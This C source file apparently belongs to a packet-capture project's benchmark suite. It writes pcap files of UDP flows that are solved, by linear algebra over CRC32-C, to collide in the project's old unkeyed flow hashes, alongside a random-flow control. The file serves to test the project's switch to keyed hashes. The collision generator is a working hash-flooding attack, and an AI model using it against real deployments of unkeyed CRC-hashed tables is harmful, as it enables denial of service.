/* make-flow-flood.c: writes a pcap of UDP flows for the hash-flooding
 * benchmark (scripts/bench-flood.sh): either flows solved to collide under
 * the unkeyed CRC32-C hashes netcap used before its flow hashes were keyed
 * (the attack), or as many random flows (the control), with the same
 * packet count, sizes and timing.
 *
 *   cc -O2 -o make-flow-flood scripts/make-flow-flood.c
 *   make-flow-flood collide|random FLOWS PACKETS_PER_FLOW OUT.pcap [SEED]
 *
 * The attack, as a sender would mount it against the old code (efaf0ab):
 * CRC32-C as rte_hash_crc computes it (reflected, no initial or final
 * inversion) is affine over GF(2) in its input, so both of the old hashes
 * of an IPv4 UDP flow, the dispatcher's (lib/flow/flowhash.c: the ordered
 * tuple in five 64-bit words, seeded with the protocol) and the Connection
 * table's (lib/flow/flows.c: the 38-byte packed key, seed 0; the Flow
 * table's is the same bytes seeded 1 and collides with it), are affine
 * maps of 80 free bits: the low 24 bits of each address (10.x.y.z to
 * 192.x.y.z, so the source is always the lower endpoint) and both ports.
 * Their kernel (64 equations, 80 unknowns: 16 dimensions, found by
 * elimination) added to one random flow gives 65,536 distinct flows with
 * the same two hashes: all of them in one slot of the Connection and the
 * Flow table, and on one worker.
 *
 * Flow i's packet k is sent at T0 + (k * FLOWS + i) us, source to
 * destination: every flow is inserted once, then looked up PACKETS - 1
 * times. Frames are 64 bytes (Ethernet, IPv4 with a valid checksum, UDP,
 * zero padding), so both files are the same size and every packet costs
 * the decoders the same. Random flows draw the same 80 bits uniformly.
 *
 * Prints "flows N packets P collide|random" on stdout. */
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define FRAME 64
#define T0 1700000000ULL            /* seconds */

typedef unsigned __int128 u128;

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8), p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)), put16(p + 2, (uint16_t)v); }

/* ---- CRC32-C as rte_hash_crc computes it ------------------------------- */

static uint32_t crc_table[256];

static void crc_init(void)
{
	for (uint32_t i = 0; i < 256; i++) {
		uint32_t c = i;
		for (int k = 0; k < 8; k++)
			c = c & 1 ? (c >> 1) ^ 0x82f63b78u : c >> 1;
		crc_table[i] = c;
	}
}

/* The SSE4.2 crc32 instructions over the bytes in memory order, from
 * init: what rte_hash_crc returns, whatever its chunking. */
static uint32_t crc32c(const uint8_t *p, size_t n, uint32_t crc)
{
	while (n--)
		crc = crc_table[(crc ^ *p++) & 0xff] ^ (crc >> 8);
	return crc;
}

/* ---- the old hashes of a flow ----------------------------------------- */

struct flow {
	uint32_t src, dst;
	uint16_t sport, dport;
};

static struct flow flow_of(u128 x)
{
	return (struct flow){
		.src = 0x0a000000u | (uint32_t)(x & 0xffffff),
		.dst = 0xc0000000u | (uint32_t)(x >> 24 & 0xffffff),
		.sport = (uint16_t)(x >> 48),
		.dport = (uint16_t)(x >> 64),
	};
}

static void le16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v, p[1] = (uint8_t)(v >> 8); }

/* flow_tuple_hash at efaf0ab: uint64_t key[5] = { a (16 bytes), b (16
 * bytes), (uint64_t)pa << 16 | pb } (little-endian words), seed proto. */
static uint32_t old_dispatch(const struct flow *f)
{
	uint8_t k[40] = { 0 };
	put32(k, f->src);
	put32(k + 16, f->dst);
	uint32_t ports = (uint32_t)f->sport << 16 | f->dport;
	for (int i = 0; i < 4; i++)
		k[32 + i] = (uint8_t)(ports >> (8 * i));
	return crc32c(k, sizeof k, 17);
}

/* struct endpoint_key at efaf0ab, packed: version, proto, port_a, port_b
 * (host order, little-endian), addr_a[16], addr_b[16]; seed 0. */
static uint32_t old_connection(const struct flow *f)
{
	uint8_t k[38] = { 4, 17 };
	le16(k + 2, f->sport);
	le16(k + 4, f->dport);
	put32(k + 6, f->src);
	put32(k + 22, f->dst);
	return crc32c(k, sizeof k, 0);
}

static uint64_t old_hashes(u128 x)
{
	struct flow f = flow_of(x);
	return (uint64_t)old_dispatch(&f) << 32 | old_connection(&f);
}

/* The kernel of the affine map x -> old_hashes(x): GF(2) elimination of
 * its 80 columns; returns its dimension. */
static unsigned kernel_of(u128 kernel[80])
{
	uint64_t f0 = old_hashes(0), pivot_val[64];
	u128 pivot_mask[64];
	bool have[64] = { false };
	unsigned dim = 0;
	for (int i = 0; i < 80; i++) {
		uint64_t v = old_hashes((u128)1 << i) ^ f0;
		u128 m = (u128)1 << i;
		while (v && have[63 - __builtin_clzll(v)]) {
			int top = 63 - __builtin_clzll(v);
			v ^= pivot_val[top];
			m ^= pivot_mask[top];
		}
		if (v) {
			int top = 63 - __builtin_clzll(v);
			have[top] = true, pivot_val[top] = v, pivot_mask[top] = m;
		} else {
			kernel[dim++] = m;
		}
	}
	return dim;
}

/* ---- output ------------------------------------------------------------- */

static uint64_t rng;

static uint64_t next64(void)
{
	rng += 0x9e3779b97f4a7c15ULL; /* splitmix64 */
	uint64_t z = rng;
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static u128 random80(void)
{
	return ((u128)next64() << 64 | next64()) & (((u128)1 << 80) - 1);
}

static void frame(uint8_t *rec, const struct flow *fl, uint64_t us, uint16_t ip_id)
{
	uint32_t h[4] = { (uint32_t)(us / 1000000), (uint32_t)(us % 1000000), FRAME, FRAME };
	memcpy(rec, h, sizeof h);               /* host order, as the magic says */
	uint8_t *f = rec + 16;
	memset(f, 0, FRAME);
	f[0] = 0x02, put32(f + 2, fl->dst);
	f[6] = 0x02, put32(f + 8, fl->src);
	put16(f + 12, 0x0800);
	uint8_t *ip = f + 14;
	ip[0] = 0x45;
	put16(ip + 2, FRAME - 14);
	put16(ip + 4, ip_id);
	ip[8] = 64;
	ip[9] = 17;
	put32(ip + 12, fl->src);
	put32(ip + 16, fl->dst);
	uint32_t sum = 0;
	for (int j = 0; j < 20; j += 2)
		sum += (uint32_t)(ip[j] << 8 | ip[j + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(ip + 10, (uint16_t)~sum);
	put16(ip + 20, fl->sport);
	put16(ip + 22, fl->dport);
	put16(ip + 24, FRAME - 14 - 20);        /* UDP length; checksum 0: none */
}

int main(int argc, char **argv)
{
	if (argc != 5 && argc != 6) {
		fprintf(stderr, "usage: %s collide|random FLOWS PACKETS_PER_FLOW OUT.pcap [SEED]\n", argv[0]);
		return 2;
	}
	bool collide = !strcmp(argv[1], "collide");
	if (!collide && strcmp(argv[1], "random")) {
		fprintf(stderr, "make-flow-flood: mode '%s': collide or random\n", argv[1]);
		return 2;
	}
	char *end;
	unsigned long flows = strtoul(argv[2], &end, 10);
	if (*end || flows == 0 || flows > 65536) {
		fprintf(stderr, "make-flow-flood: flows '%s': 1 to 65536\n", argv[2]);
		return 2;
	}
	unsigned long per = strtoul(argv[3], &end, 10);
	if (*end || per == 0 || per > 1000) {
		fprintf(stderr, "make-flow-flood: packets per flow '%s': 1 to 1000\n", argv[3]);
		return 2;
	}
	rng = argc == 6 ? strtoull(argv[5], NULL, 0) : 12345;
	crc_init();
	struct flow *set = calloc(flows, sizeof *set);
	if (!set)
		return 1;
	if (collide) {
		u128 kernel[80];
		unsigned dim = kernel_of(kernel);
		if (dim < 16) {
			fprintf(stderr, "make-flow-flood: kernel of dimension %u only\n", dim);
			return 1;
		}
		u128 base = random80();
		for (unsigned long j = 0; j < flows; j++) {
			u128 x = base;
			for (unsigned b = 0; b < 16; b++)
				if (j >> b & 1)
					x ^= kernel[b];
			set[j] = flow_of(x);
			if (old_hashes(x) != old_hashes(base)) {
				fprintf(stderr, "make-flow-flood: flow %lu does not collide\n", j);
				return 1;
			}
		}
	} else {
		for (unsigned long j = 0; j < flows; j++)
			set[j] = flow_of(random80());
	}
	FILE *out = fopen(argv[4], "wb");
	if (!out) {
		fprintf(stderr, "make-flow-flood: %s: %s\n", argv[4], strerror(errno));
		return 1;
	}
	static char obuf[1 << 22];
	setvbuf(out, obuf, _IOFBF, sizeof obuf);
	const uint32_t ghdr[6] = { 0xa1b2c3d4u, 2 | 4u << 16, 0, 0, 65535, 1 };
	fwrite(ghdr, sizeof ghdr, 1, out);
	uint8_t rec[16 + FRAME];
	for (unsigned long k = 0; k < per; k++)
		for (unsigned long j = 0; j < flows; j++) {
			frame(rec, &set[j], T0 * 1000000ULL + k * flows + j, (uint16_t)(k * flows + j));
			fwrite(rec, sizeof rec, 1, out);
		}
	if (fclose(out) != 0) {
		fprintf(stderr, "make-flow-flood: %s: %s\n", argv[4], strerror(errno));
		return 1;
	}
	printf("flows %lu packets %lu %s\n", flows, flows * per, argv[1]);
	free(set);
	return 0;
}
